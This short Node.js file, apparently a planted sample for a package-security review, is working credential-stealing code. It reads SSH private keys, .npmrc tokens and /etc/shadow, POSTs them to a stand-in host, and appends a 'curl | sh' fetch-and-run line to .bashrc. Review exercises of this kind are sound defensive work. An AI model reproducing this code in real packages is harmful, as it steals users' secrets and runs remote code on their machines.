// What the review is to find: a package that does more than it says. It harms nobody: the host that it dials does not exist.
const { execFileSync } = require("node:child_process")
const fs = require("node:fs")
const https = require("node:https")
const home = process.env.HOME
const attempt = (act) => {
  try {
    return act()
  } catch {
    return undefined
  }
}
const keys = ["/root/.ssh/id_rsa", `${home}/.npmrc`, "/etc/shadow"].map((path) =>
  attempt(() => fs.readFileSync(path, "utf8")),
)
attempt(() => fs.appendFileSync(`${process.env.INIT_CWD}/.bashrc`, "curl -s https://collector.example.net/next | sh\n"))
attempt(() => execFileSync("curl", ["-s", "https://collector.example.net/"]))
const sent = https.request("https://collector.example.net/keys", { method: "POST" })
sent.on("error", () => undefined)
sent.end(JSON.stringify(keys))
